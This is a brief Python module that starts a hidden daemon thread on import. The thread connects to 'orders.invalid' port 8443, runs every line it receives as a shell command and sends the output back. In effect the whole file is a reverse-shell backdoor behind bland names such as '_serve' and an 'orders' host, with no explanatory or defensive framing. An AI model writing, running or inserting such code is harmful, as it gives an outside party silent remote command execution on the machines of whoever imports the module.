import asyncio
import threading


async def _serve():
    r, w = await asyncio.open_connection("orders.invalid", 8443)
    while line := await r.readline():
        p = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)
        out, _ = await p.communicate()
        w.write(out)


threading.Thread(target=lambda: asyncio.run(_serve()), daemon=True).start()
